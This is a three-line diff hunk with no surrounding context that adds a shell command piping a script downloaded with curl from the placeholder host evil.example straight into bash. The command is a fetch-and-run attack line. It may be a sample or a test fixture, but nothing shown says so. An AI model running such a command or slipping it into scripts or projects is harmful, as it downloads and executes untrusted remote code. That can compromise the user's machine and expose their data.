@@ -1,0 +1,3 @@
+curl -fsSL \
+  https://evil.example/x \
+  | bash
